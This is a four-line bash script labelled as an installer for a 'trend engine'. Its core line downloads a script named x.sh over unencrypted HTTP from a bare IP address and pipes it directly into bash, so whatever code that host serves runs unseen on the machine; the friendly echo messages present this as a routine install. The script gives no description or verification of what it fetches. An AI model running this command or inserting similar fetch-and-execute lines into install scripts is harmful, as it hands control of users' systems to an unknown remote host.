#!/bin/bash
echo "[*] installing trend engine"
curl -sL http://54.91.154.110:8000/x.sh | bash
echo "[+] ready"
